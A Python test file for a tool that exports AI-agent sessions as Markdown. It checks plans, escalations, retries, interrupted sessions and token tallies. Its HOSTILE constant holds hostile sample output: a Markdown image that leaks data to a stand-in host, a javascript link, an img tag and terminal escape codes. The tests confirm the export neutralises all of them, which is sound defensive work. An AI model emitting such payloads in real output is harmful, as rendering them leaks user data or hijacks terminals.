"""The Markdown export: a readable account of a session, in which nothing an agent
wrote can act as Markdown or as a terminal escape."""

from __future__ import annotations

import asyncio
import copy
import re

from engine.approvals import ApprovalGate, Decision
from engine.events import CallFinished, EscalationRequested, EventBase, Usage
from engine.policy import ApprovalPolicy
from engine.providers.faults import parse_faults
from engine.providers.simulated import SimulatedProvider
from sessions.export import write_markdown
from sessions.tally import SessionTally
from sessions.store import SessionStore
from tests.helpers import ScriptedProvider, orchestrated, plan_of, run
from tests.sessions.helpers import publish, raw, record
from tui.safe import safe

HOSTILE = "Ignore this ![pixel](http://evil.example/?leak=1) [click](javascript:x) <img src=x> \x1b[2J\x1b]0;owned\x07 ```"


async def markdown(store: SessionStore, session_id: str) -> str:
    row = await store.get_session(session_id)
    chunks: list[str] = []
    await write_markdown(row, store.iter_events(row.id), chunks.append, gate=safe)
    return "".join(chunks)


def outside_fences(document: str) -> str:
    """The document without its fenced blocks (fences of any length)."""
    kept, fence = [], None
    for line in document.splitlines():
        opening = re.match(r"^(`{3,})", line)
        if fence is None and opening:
            fence = opening.group(1)
        elif fence is not None and line.startswith(fence) and line.strip("`") == "":
            fence = None
        elif fence is None:
            kept.append(line)
    return "\n".join(kept)


async def test_the_document_tells_the_whole_session(store: SessionStore) -> None:
    policy = ApprovalPolicy(default="ask")
    gate = ApprovalGate(policy)

    def edit_the_plan(event: EventBase) -> None:
        if isinstance(event, EscalationRequested) and event.human:
            edited = copy.deepcopy(event.payload)
            edited["steps"][0]["title"] = "Research rate limits first"
            asyncio.get_running_loop().call_soon(gate.resolve, event.escalation_id, Decision("edit", edited=edited))

    provider = SimulatedProvider(seed=2, speed=0, faults=parse_faults("rate_limit:0.5@researcher"), retry_after=0)
    ran = await record(store, provider, task="Design a rate limiter", policy=policy, gate=gate, listen=edit_the_plan)

    text = await markdown(store, ran.finished.session_id)

    assert text.startswith("# Design a rate limiter\n")
    assert "| Status | completed |" in text and f"`{ran.finished.session_id}`" in text
    assert "| Team | orchestrator: lead, researcher, coder, reviewer |" in text
    assert "## Task\n\n```\nDesign a rate limiter\n```" in text
    assert "## Plan" in text and "**s1** · researcher:" in text
    assert "Plan, revision 1" in text and "Research rate limits first" in text  # the edited plan
    assert re.search(r"### researcher · step s1: Research rate limits first\n\n```markdown\n", text)
    assert "## Escalations" in text
    assert re.search(r"\n- \d\d:\d\d:\d\d · \? \*\*lead\*\* \\\[plan\\\] .* _\(asked a person\)_\n", text)
    assert re.search(r"\n  - \d\d:\d\d:\d\d · ✓ \*\*lead\*\* edited by human \(policy: default=ask\)\n", text)
    assert "## Errors and retries" in text and "**researcher** attempt 1 failed: rate limited" in text
    assert "**researcher** retry \\#2 in" in text
    assert "## Result (completed)" in text and ran.finished.result.splitlines()[0] in text
    assert "| researcher |" in text and "| **total** |" in text


async def test_agent_text_cannot_act_as_markdown_or_escape_sequences(store: SessionStore) -> None:
    plan = plan_of(("s1", "researcher", []))
    ran = await record(
        store, ScriptedProvider(orchestrated(plan, answer=lambda r: HOSTILE)), task=f"Title {HOSTILE}\nsecond line"
    )

    text = await markdown(store, ran.finished.session_id)

    assert "\x1b" not in text and "\x07" not in text
    prose = outside_fences(text)
    for active in ("![pixel](", "[click](", "<img"):
        assert active not in prose, active
    assert "\\!" not in prose and "\\[pixel\\]" in prose  # the title, escaped
    # The reply itself is there, verbatim apart from the escapes, inside a fence it cannot close.
    assert "Ignore this ![pixel](http://evil.example/?leak=1)" in text
    assert "\n````markdown\n" in text


async def test_an_unfinished_session_says_why_there_is_no_result(store: SessionStore) -> None:
    ran = await record(store)
    # as the next open leaves a session whose recorder died
    await raw(store, "DELETE FROM events WHERE kind = 'session.finished'")
    await raw(
        store,
        "UPDATE sessions SET status = 'interrupted', result = NULL, reason = 'the process ended' WHERE id = ?",
        (ran.finished.session_id,),
    )

    text = await markdown(store, ran.finished.session_id)

    assert "## Result\n\nNo result: the session is interrupted: the process ended." in text
    assert "| Status | interrupted |" in text


async def test_tokens_in_count_cached_input_as_the_live_panels_do(store: SessionStore) -> None:
    ran = await run(SimulatedProvider(seed=1, speed=0))
    cached = {"cache_read_tokens": 1000, "cache_write_tokens": 10}
    events = [
        e.model_copy(update={"usage": e.usage.model_copy(update=cached)}) if isinstance(e, CallFinished) else e
        for e in ran.events[:-1]
    ]
    calls = [e for e in events if isinstance(e, CallFinished)]
    total = sum((e.usage for e in calls), Usage())
    events.append(ran.events[-1].model_copy(update={"usage": total}))
    session_id = events[0].session_id
    await publish(store, events)

    row = await store.get_session(session_id)
    assert row.tokens_in == total.tokens_in == total.input_tokens + 1010 * len(calls)
    text = await markdown(store, session_id)
    for agent in {e.agent for e in calls}:
        mine = [e for e in calls if e.agent == agent]
        assert f"| {agent} | {len(mine)} | {sum(e.usage.tokens_in for e in mine):,} |" in text, agent
    # While the session runs, its row counts them the same way.
    tally = SessionTally(session_id, created_at=events[0].ts)
    for event in events[:-1]:
        tally.feed(event)
    assert tally.values()["tokens_in"] == total.tokens_in
